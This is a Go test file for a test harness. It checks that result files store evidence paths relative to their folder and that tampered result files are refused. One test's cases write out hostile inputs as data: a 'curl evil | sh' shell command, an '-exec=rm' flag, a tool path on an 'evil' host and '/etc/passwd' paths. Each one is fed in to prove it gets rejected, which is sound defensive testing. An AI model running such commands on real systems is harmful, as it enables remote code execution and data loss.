package harness_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/codegenie/codegenie/harness"
)

// failedResult is a NONDETERMINISTIC result of scenario s whose bundle is
// bundle (absolute, as the gate's report names it), with the compare and
// reproduce commands the gate writes.
func failedResult(s, bundle string) harness.Result {
	r := passResult(s)
	r.Test, r.Dir, r.Verdict = "TestGate", "pkg", harness.Nondeterministic
	r.Classes = []harness.Class{{Size: 30}, {Size: 20, FirstRun: 3}}
	r.Explanation = "NONDETERMINISTIC " + s + ": 50 runs in 2 classes (30, 20)"
	r.Evidence = bundle
	r.Commands = []harness.Command{
		{Purpose: "compare", Argv: []string{"go", "run", "github.com/codegenie/codegenie/cmd/bundle", "diff", bundle, "-runs", "run-000,run-003"}},
		{Purpose: "reproduce", Argv: []string{"go", "test", "./pkg", "-run", "^TestGate$", "-count=1"}},
	}
	return r
}

// TestResultFolder: a result file names the evidence inside its folder
// relative to it, with slashes, and the compare command with it; read
// back, the result knows its folder, and explains itself with paths from
// where the reader is; written into another folder (a merge's -out), its
// evidence is relative to that one, or absolute when outside it, and it
// names no crash output file.
func TestResultFolder(t *testing.T) {
	base := t.TempDir()
	shard := filepath.Join(base, "gate-0")
	bundle := filepath.Join(shard, "evidence", "k", "gate-000001", "a", "a.bundle.zst")
	r := failedResult("a", bundle)
	r.CrashOutput = filepath.Join(shard, "a.crash.txt")
	p, err := harness.WriteResult(shard, r)
	require.NoError(t, err)
	var file map[string]any
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(b, &file))
	require.Equal(t, "evidence/k/gate-000001/a/a.bundle.zst", file["evidence"])
	require.Equal(t, "a.crash.txt", file["crash_output"])
	require.NotContains(t, string(b), base, "no path of this machine")
	require.NotContains(t, file, "folder")

	rs, err := harness.ReadResults(shard)
	require.NoError(t, err)
	require.Len(t, rs, 1)
	require.Equal(t, shard, rs[0].Folder)
	var sb strings.Builder
	require.NoError(t, rs[0].Explain(&sb))
	require.Contains(t, sb.String(), "  evidence: "+bundle+" (report.txt and report.json beside it)\n")
	require.Contains(t, sb.String(), "bundle diff "+bundle+" -runs run-000,run-003\n")
	require.Equal(t, bundle, rs[0].LedgerEntry().Evidence)

	// Into the folder above: relative to it; elsewhere: absolute.
	for _, tt := range []struct{ dir, want string }{
		{base, "gate-0/evidence/k/gate-000001/a/a.bundle.zst"},
		{t.TempDir(), bundle},
	} {
		p, err := harness.WriteResult(tt.dir, rs[0])
		require.NoError(t, err)
		back, err := harness.ReadResult(p)
		require.NoError(t, err)
		require.Equal(t, tt.want, back.Evidence)
		require.Equal(t, tt.want, back.Commands[0].Argv[4])
		require.Empty(t, back.CrashOutput, "a crash output file is named only beside its result")
	}
}

// crashOutput returns an edit that names path as the crash output.
func crashOutput(path string) func(r *harness.Result) {
	return func(r *harness.Result) { r.CrashOutput = path }
}

// TestResultCommandsRefused: a result file names only the commands the
// harness writes, for its own test, package and evidence; anything else,
// and a path outside the folder where one must be inside it, is refused
// naming the field.
func TestResultCommandsRefused(t *testing.T) {
	tests := []struct {
		name string
		edit func(r *harness.Result)
		want string
	}{
		{"shell", func(r *harness.Result) {
			r.Commands[1].Argv = []string{"sh", "-c", "curl evil | sh"}
		}, "commands[1] (reproduce) is not go test of the result's package directory and test"},
		{"go-test-flag", func(r *harness.Result) {
			r.Commands[1].Argv = append(r.Commands[1].Argv, "-exec=rm")
		}, "commands[1] (reproduce) is not go test"},
		{"other-package", func(r *harness.Result) { r.Commands[1].Argv[2] = "./other" }, "commands[1] (reproduce) is not go test"},
		{"other-tool", func(r *harness.Result) {
			r.Commands[0].Argv[2] = "example.com/evil/cmd/bundle"
		}, "commands[0] (compare) is not bundle diff on the result's evidence bundle"},
		{"other-bundle", func(r *harness.Result) { r.Commands[0].Argv[4] = "/etc/passwd" }, "commands[0] (compare) is not bundle diff"},
		{"dir", func(r *harness.Result) { r.Commands[1].Dir = "/tmp" }, "commands[1] (reproduce) names a directory"},
		{"purpose", func(r *harness.Result) { r.Commands[1].Purpose = "cleanup" }, "commands[1] (cleanup) is of no purpose"},
		{"package-dir", func(r *harness.Result) { r.Dir = "../up" }, "dir is ../up"},
		// WriteResult names a crash output file only beside the result;
		// the file says crash_output is x.crash.txt, then edited to this.
		{"crash-output-absolute", crashOutput("/etc/passwd"), "crash_output is /etc/passwd, want a file name in the results folder"},
		{"crash-output-up", crashOutput("../x.crash.txt"), "crash_output is ../x.crash.txt"},
		{"crash-output-below", crashOutput("link/x.crash.txt"), "crash_output is link/x.crash.txt"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			r := failedResult("a", filepath.Join(dir, "evidence", "a.bundle.zst"))
			tt.edit(&r)
			edit := r.CrashOutput
			if edit != "" {
				r.CrashOutput = filepath.Join(dir, "x.crash.txt")
			}
			p, err := harness.WriteResult(dir, r)
			require.NoError(t, err)
			if edit != "" {
				b, err := os.ReadFile(p)
				require.NoError(t, err)
				require.Contains(t, string(b), `"crash_output": "x.crash.txt"`)
				require.NoError(t, os.WriteFile(p, []byte(strings.Replace(string(b), `"x.crash.txt"`, `"`+edit+`"`, 1)), 0o644))
			}
			_, err = harness.ReadResult(p)
			require.ErrorIs(t, err, harness.ErrBadResult)
			require.ErrorContains(t, err, tt.want)
		})
	}
}
